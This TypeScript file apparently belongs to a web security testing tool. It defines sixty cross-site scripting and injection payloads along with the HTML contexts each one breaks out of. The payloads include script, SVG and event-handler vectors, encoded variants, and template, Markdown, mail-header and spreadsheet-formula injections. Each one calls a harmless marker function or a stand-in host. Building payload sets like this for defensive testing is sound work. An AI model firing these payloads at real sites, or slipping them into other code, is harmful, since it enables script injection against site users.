/**
 * Sixty texts that run something where a page, a mail or an interpreter takes them for more than text. Each carries a
 * number: where it runs, it calls `ran(number)`, opens a dialog, or asks a server for the number. None is longer than
 * the shortest text field.
 */

/** The host that payloads ask; it exists nowhere */
export const payloadHost = "ran.test";

/** The part of a page that a payload breaks out of, with the payload in the place of {} */
const contexts = {
  text: "<p>{}</p>",
  doubleQuoted: `<a id="target" title="{}">x</a>`,
  singleQuoted: `<a id="target" title='{}'>x</a>`,
  address: `<a id="target" href="{}">x</a>`,
  picture: `<img src="{}">`,
  script: `<script>var text = "{}"; function x() {}</script>`,
  singleQuotedScript: `<script>var text = '{}'; function x() {}</script>`,
  template: "<script>var text = `{}`</script>",
  escapedScript: `<script>document.write("{}")</script>`,
  json: `<script type="application/ld+json">{"name": "{}"}</script>`,
  textarea: "<textarea>{}</textarea>",
  title: "<title>{}</title>",
  noscript: "<noscript>{}</noscript>",
  comment: "<!-- {} -->",
  style: "<style>{}</style>",
  decoded: `<p></p><script>document.querySelector("p").innerHTML = decodeURIComponent("{}")</script>`,
  decodedTwice: `<p>{}</p><script>var p = document.querySelector("p"); document.write(p.textContent)</script>`,
  folded: `<p>{}</p><script>document.write(document.querySelector("p").textContent.normalize("NFKC"))</script>`,
} as const;
export type PayloadContext = keyof typeof contexts;

type Payload = {
  write(number: number): string;
  /** Where it runs; undefined: in an interpreter that Oja has not, such as a spreadsheet or a template engine */
  runsIn?: PayloadContext;
};

const payload = (runsIn: PayloadContext | undefined, write: Payload["write"]): Payload => ({ write, runsIn });

export const payloads: readonly Payload[] = [
  payload("text", (n) => `<script>ran(${n})</script>`),
  payload("json", (n) => `</script><script>ran(${n})</script>`),
  payload("text", (n) => `<ScRiPt>ran(${n})</sCrIpT>`),
  payload("text", (n) => `<script src=//${payloadHost}/${n}></script>`),
  payload("text", (n) => `<script type=module>ran(${n})</script>`),
  payload("text", (n) => `<script>alert(${n})</script>`),
  payload("json", (n) => `"}</script><svg onload=confirm(${n})>`),
  payload("text", (n) => `<img src=x onerror=ran(${n})>`),
  payload("text", (n) => `<img src=x onerror=prompt(${n})>`),
  payload("doubleQuoted", (n) => `"><img src=x onerror=ran(${n})>`),
  payload("singleQuoted", (n) => `'><img src=x onerror=ran(${n})>`),
  payload("text", (n) => `<img src=//${payloadHost}/${n}>`),
  payload("text", (n) => `<img srcset=//${payloadHost}/${n}>`),
  payload("text", (n) => `<svg onload=ran(${n})>`),
  payload("text", (n) => `<svg/onload=ran(${n})//`),
  payload("text", (n) => `<svg><script>ran(${n})</script></svg>`),
  payload("text", (n) => `<svg><animate onbegin=ran(${n}) attributeName=x>`),
  payload("text", (n) => `<svg><image href=//${payloadHost}/${n}></svg>`),
  payload("text", (n) => `<math><mtext><img src=x onerror=ran(${n})>`),
  payload("text", (n) => `<iframe src=javascript:parent.ran(${n})>`),
  payload("text", (n) => `<iframe srcdoc="<script>parent.ran(${n})</script>">`),
  payload("text", (n) => `<iframe src=//${payloadHost}/${n}>`),
  payload("text", (n) => `<details open ontoggle=ran(${n})>`),
  payload("text", (n) => `<input autofocus onfocus=ran(${n})>`),
  payload("doubleQuoted", (n) => `" tabindex=0 autofocus onfocus=ran(${n}) x="`),
  payload("singleQuoted", (n) => `' tabindex=0 autofocus onfocus=ran(${n}) x='`),
  payload("text", (n) => `<video><source onerror=ran(${n})></video>`),
  payload("text", (n) => `<audio src=x onerror=ran(${n})>`),
  payload("text", (n) => `<video poster=//${payloadHost}/${n}>`),
  payload("text", (n) => `<object data=//${payloadHost}/${n}>`),
  payload("text", (n) => `<embed src=//${payloadHost}/${n}>`),
  payload("text", (n) => `<link rel=stylesheet href=//${payloadHost}/${n}>`),
  payload("text", (n) => `<base href=//${payloadHost}/${n}/><img src=a>`),
  payload("text", (n) => `<meta http-equiv=refresh content=0;//${payloadHost}/${n}>`),
  payload("text", (n) => `<style>@import'//${payloadHost}/${n}'</style>`),
  payload("style", (n) => `}</style><img src=x onerror=ran(${n})>`),
  payload("style", (n) => `p{}body{background:url(//${payloadHost}/${n})}`),
  payload("doubleQuoted", (n) => `" style="background:url(//${payloadHost}/${n})`),
  payload("text", (n) => `<b style=background:url(//${payloadHost}/${n})>x</b>`),
  payload("textarea", (n) => `</textarea><svg onload=ran(${n})>`),
  payload("title", (n) => `</title><svg onload=ran(${n})>`),
  payload("noscript", (n) => `</noscript><svg onload=ran(${n})>`),
  payload("comment", (n) => `--><svg onload=ran(${n})><!--`),
  payload("address", (n) => `javascript:ran(${n})`),
  payload("address", (n) => `JaVaScRiPt:ran(${n})//`),
  payload("picture", (n) => `//${payloadHost}/${n}`),
  payload("script", (n) => `";ran(${n})//`),
  payload("singleQuotedScript", (n) => `';ran(${n})//`),
  payload("script", (n) => `"-ran(${n})-"`),
  payload("template", (n) => "${ran(" + n + ")}"),
  payload("escapedScript", (n) => String.raw`\u003csvg onload=ran(${n})\u003e`),
  payload("decodedTwice", (n) => `&lt;svg onload=ran(${n})&gt;`),
  payload("decodedTwice", (n) => `&#60;svg onload=ran(${n})&#62;`),
  payload("decoded", (n) => `%3Cimg%20src%3Dx%20onerror%3Dran(${n})%3E`),
  payload("folded", (n) => `＜svg onload=ran(${n})＞`),
  // A Unicode line separator ended a string of older JavaScript, and "$" begins a reference of React's flight data.
  payload(undefined, (n) => `$1:a\u2028ran(${n})//`),
  payload(undefined, (n) => `{{constructor.constructor('ran(${n})')()}}`),
  payload(undefined, (n) => `[x](javascript:ran(${n}) "![x](//${payloadHost})")`),
  payload(undefined, (n) => `=?utf-8?q?=0ABcc:a@${payloadHost}=3Csvg_onload=3Dran(${n})=3E?=`),
  payload(undefined, (n) => `=HYPERLINK("//${payloadHost}/${n}","<%= ran(${n}) %>")`),
];

/** A page that takes the payload for more than text, as a careless template would; undefined: no page does. */
export function carelessPage({ write, runsIn }: Payload, number: number): string | undefined {
  return runsIn && `<!doctype html><body>${contexts[runsIn].replace("{}", () => write(number))}</body>`;
}

/** The number of a payload in a field: no other field's payload has it. */
export const numberOf = (field: number, index: number): number => 1000 + field * payloads.length + index;

/** The same payload's text in every field would not say where it came from. */
export const payloadsOf = (field: number): string[] =>
  payloads.map(({ write }, index) => write(numberOf(field, index)));

/** @returns texts of at most `max` characters that hold all of them, one or more each */
export function pack(texts: readonly string[], max: number): string[] {
  const packed: string[] = [];
  for (const text of texts) {
    const joined = `${packed.at(-1)} ${text}`;
    if (packed.length > 0 && joined.length <= max) packed[packed.length - 1] = joined;
    else packed.push(text);
  }
  return packed;
}
